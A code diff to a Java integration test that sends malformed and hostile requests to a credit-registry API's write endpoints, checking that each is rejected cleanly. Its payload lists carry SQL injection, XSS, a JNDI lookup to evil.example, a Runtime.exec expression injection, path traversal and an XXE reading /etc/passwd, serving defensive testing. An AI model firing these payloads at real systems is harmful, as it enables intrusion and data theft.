@@ -33,13 +33,16 @@ import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandl
  * Issue 11, bad input: a corpus of malformed and hostile requests against every write endpoint of /api
  * (found from the handler mapping, so a new endpoint without corpus entries fails this test) and against
  * engine deployments. Every answer is a 4xx with a bilingual message, never a 500; the product's tables
- * are unchanged afterwards.
+ * are unchanged afterwards. Names and free text with what none may hold ({@link #TEXT_FLAWS}, markup in a name, a
+ * lone surrogate) are tried on every body that takes them, and a registered company's code with a made-up name.
  */
 class HostileInputTest extends IntegrationTest {
 
   static final List<String> INJECTIONS = List.of("'; DROP TABLE commitment_case; --", "\" OR 1=1 --",
       "<script>alert('x')</script>", "<img src=x onerror=alert(1)>", "${jndi:ldap://evil.example/a}",
       "#{T(java.lang.Runtime).getRuntime().exec('id')}", "../../../../etc/passwd", "\u0000\u202e控制字符");
+  /** What no name or free text may hold (FreeText): NUL, a right-to-left override, a bidi isolate, a bell. */
+  static final List<String> TEXT_FLAWS = List.of("\u0000", "\u202e", "\u2066", "\u0007");
   static final String XXE = "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>";
   static final List<String> PRODUCT_TABLES = List.of("credit_subject", "credit_dishonesty_record",
       "credit_fulfilment_record", "credit_penalty", "credit_pushed_record", "credit_inspection_feed",
@@ -159,6 +162,23 @@ class HostileInputTest extends IntegrationTest {
         "{\"applicantName\": \"" + "x".repeat(300 * 1024) + "\"}", "oversized body (300 KB)"));
     corpus.add(raw("POST", "/api/cases", "portal", "application/json", "{\"a\":".repeat(5000) + "1" + "}".repeat(5000),
         "deeply nested JSON"));
+    // a registered company's code with a made-up name, or its own name with what no name may hold
+    String registeredName = driver.registry.profile(existingSubject).name();
+    Map<String, Object> registered = with(application, "applicantCode", existingSubject);
+    corpus.add(post("/api/cases", "portal", with(registered, "applicantName", "某某有限公司"), "name not the registered one"));
+    for (String flaw : TEXT_FLAWS) {
+      corpus.add(post("/api/cases", "portal", with(registered, "applicantName", registeredName + flaw),
+          "registered name with U+" + String.format("%04X", (int) flaw.charAt(0))));
+      corpus.add(post("/api/cases", "portal", with(with(with(registered, "commitmentType", "TOLERATE_MISSING"),
+          "itemCode", "WSJK-GG-001"), "missingMaterials", List.of("卫生管理制度" + flaw)), "missing material with a flaw"));
+    }
+    corpus.add(post("/api/cases", "portal", with(registered, "applicantName", "<b>" + registeredName + "</b>"),
+        "registered name in markup"));
+    // written by hand: a JSON writer would not carry a lone surrogate, a JSON reader accepts its escape
+    corpus.add(raw("POST", "/api/cases", "portal", "application/json",
+        json.writeValueAsString(with(registered, "applicantName", registeredName))
+            .replace(json.writeValueAsString(registeredName), "\"" + registeredName + "\\ud800\""),
+        "lone surrogate in name"));
     // --- case operations: unknown case, wrong state, bad bodies
     for (String op : List.of("signature", "withdrawal", "materials", "rectification")) {
       corpus.add(post("/api/cases/XY20990101999999/" + op, "portal", Map.of("reason", "x"), op + " of an unknown case"));
@@ -188,6 +208,14 @@ class HostileInputTest extends IntegrationTest {
         Map.of("description", "x", "refused", "maybe"), "wrong type for a boolean"));
     corpus.add(post("/api/cases/" + caseAtConditions + "/withdrawal", "portal", Map.of("reason", "理".repeat(501)),
         "withdrawal reason too long"));
+    for (String flaw : TEXT_FLAWS) {
+      corpus.add(post("/api/cases/" + caseAtSignature + "/withdrawal", "portal", Map.of("reason", "暂不经营" + flaw),
+          "withdrawal reason with a flaw, in the right state"));
+      corpus.add(post("/api/cases/" + caseAtSignature + "/materials", "portal", Map.of("materials", List.of("x" + flaw)),
+          "supplied material with a flaw"));
+      corpus.add(post("/api/cases/" + caseAtConditions + "/rectification", "portal",
+          Map.of("description", "已整改" + flaw, "refused", false), "rectification description with a flaw"));
+    }
     // --- credit registry (credit-office)
     Map<String, Object> newSubject = Map.of("code", valid, "name", "某某有限公司", "grade", "AA");
     for (String code : List.of("123", valid.toLowerCase(), TestCodes.usccWithWrongCheck(), "'; DROP TABLE credit_subject; --")) {
@@ -238,6 +266,23 @@ class HostileInputTest extends IntegrationTest {
     corpus.add(post("/api/checksum-exceptions", "credit-office", Map.of("code", valid, "reason", " "), "blank reason"));
     corpus.add(post("/api/checksum-exceptions", "credit-office", Map.of("code", valid.toLowerCase(), "reason", "x"),
         "lower-case code"));
+    for (String flaw : TEXT_FLAWS) {
+      corpus.add(post("/api/subjects", "credit-office", with(newSubject, "name", "某某" + flaw + "有限公司"),
+          "new subject's name with a flaw"));
+      corpus.add(put("/api/subjects/" + existingSubject, "credit-office", Map.of("name", "某某" + flaw + "有限公司"),
+          "renamed with a flaw"));
+      corpus.add(post("/api/subjects/" + existingSubject + "/dishonesty-records", "credit-office",
+          with(record, "basis", "销售过期食品" + flaw), "record basis with a flaw"));
+      corpus.add(put("/api/subjects/" + existingSubject + "/blacklist", "credit-office",
+          Map.of("blacklisted", true, "basis", "严重失信" + flaw), "blacklist basis with a flaw"));
+      corpus.add(post("/api/checksum-exceptions", "credit-office", Map.of("code", valid, "reason", "历史代码" + flaw),
+          "checksum exception reason with a flaw"));
+    }
+    corpus.add(post("/api/subjects", "credit-office", with(newSubject, "name", "<b>某某有限公司</b>"), "markup in a name"));
+    corpus.add(post("/api/subjects/" + existingSubject + "/dishonesty-records", "credit-office",
+        with(record, "sourceUnit", "<i>市场监管局</i>"), "markup in the source unit"));
+    corpus.add(put("/api/subjects/" + existingSubject + "/dishonesty-records/1/status", "credit-office",
+        Map.of("status", "REVOKED", "reason", "撤销\u202e"), "status reason with a bidi override"));
     // --- catalogue (camunda-admin)
     JsonNode item = json.readTree(http.get("/api/catalogue/SCJG-SP-001", "admin").body());
     Map<String, Object> itemMap = json.convertValue(item, Map.class);
@@ -253,6 +298,14 @@ class HostileInputTest extends IntegrationTest {
     corpus.add(put("/api/catalogue/SCJG-SP-001", "admin", with(itemMap, "openToCommitment", "sometimes"), "wrong type"));
     corpus.add(put("/api/catalogue/" + UUID.randomUUID(), "admin", Map.of("name", "<script>alert(1)</script>"),
         "new item with nothing but a script name"));
+    for (String flaw : TEXT_FLAWS) {
+      corpus.add(put("/api/catalogue/SCJG-SP-001", "admin", with(itemMap, "conditions", "条件" + flaw),
+          "conditions with a flaw"));
+      corpus.add(put("/api/catalogue/SCJG-SP-001", "admin", with(itemMap, "name", "食品经营许可" + flaw),
+          "item name with a flaw"));
+    }
+    corpus.add(put("/api/catalogue/SCJG-SP-001", "admin", with(itemMap, "materials", List.of("<b>申请书</b>")),
+        "material name in markup"));
     corpus.add(raw("PUT", "/api/catalogue/SCJG-SP-001", "admin", "application/xml", XXE, "catalogue XXE"));
     // --- objections and repairs (portal, clerk, credit-office)
     Map<String, Object> objection = Map.of("subjectCode", existingSubject, "recordId", 999999999, "reason", "记录有误");
@@ -263,6 +316,11 @@ class HostileInputTest extends IntegrationTest {
     corpus.add(post("/api/objections", "portal", with(objection, "reason", "理".repeat(2001)), "objection, reason too long"));
     corpus.add(post("/api/objections", "portal", with(objection, "reason", INJECTIONS.get(0)), "objection, injection"));
     corpus.add(post("/api/objections", "portal", with(objection, "extra", true), "objection, extra field"));
+    for (String flaw : TEXT_FLAWS) {
+      corpus.add(post("/api/objections", "portal", with(objection, "reason", "记录有误" + flaw), "objection reason with a flaw"));
+      corpus.add(post("/api/objections", "portal", with(objection, "evidence", List.of("凭证" + flaw)),
+          "objection evidence with a flaw"));
+    }
     corpus.add(raw("POST", "/api/objections", "portal", "application/xml", XXE, "objection XXE"));
     Map<String, Object> repair = Map.of("subjectCode", existingSubject, "recordId", 999999999, "evidence", List.of("缴款凭证"),
         "obligationsFulfilled", true, "finePaid", true, "repairLetterSigned", true);
@@ -271,6 +329,12 @@ class HostileInputTest extends IntegrationTest {
     corpus.add(post("/api/repairs", "portal", with(repair, "repairLetterSigned", "yes"), "repair, flag of the wrong type"));
     corpus.add(post("/api/repairs", "portal", with(repair, "subjectCode", TestCodes.usccWithWrongCheck()), "repair, wrong check character"));
     corpus.add(post("/api/repairs", "portal", without(repair, "finePaid"), "repair, missing flag"));
+    for (String flaw : TEXT_FLAWS) {
+      corpus.add(post("/api/repairs", "portal", with(repair, "evidence", List.of("缴款凭证" + flaw)),
+          "repair evidence with a flaw"));
+      corpus.add(post("/api/repairs/XF20990101999999/supplement", "portal",
+          Map.of("evidence", List.of("x"), "note", "补充" + flaw), "supplement note with a flaw"));
+    }
     corpus.add(post("/api/repairs/XF20990101999999/supplement", "portal", Map.of("evidence", List.of("x")), "supplement of an unknown repair"));
     corpus.add(post("/api/repairs/XF20990101999999/supplement", "portal", Map.of("evidence", List.of()), "empty supplement"));
     corpus.add(raw("POST", "/api/repairs/XF20990101999999/supplement", "portal", "application/xml", XXE, "supplement XXE"));
@@ -281,6 +345,10 @@ class HostileInputTest extends IntegrationTest {
         "reminder, reason too long"));
     corpus.add(post("/api/negative-reminders", "credit-office", Map.of("subjectCode", existingSubject, "reason", "x", "x", 1),
         "reminder, extra field"));
+    for (String flaw : TEXT_FLAWS) {
+      corpus.add(post("/api/negative-reminders", "credit-office", Map.of("subjectCode", existingSubject,
+          "reason", "多次投诉" + flaw), "reminder reason with a flaw"));
+    }
     corpus.add(raw("DELETE", "/api/negative-reminders/999999999", "credit-office", "application/json", "", "remove an unknown reminder"));
     corpus.add(raw("DELETE", "/api/negative-reminders/abc", "credit-office", "application/json", "", "reminder id not a number"));
     corpus.add(raw("POST", "/api/risk-warnings/scan?asOf=not-a-date", "credit-office", "application/json", "", "scan, malformed date"));
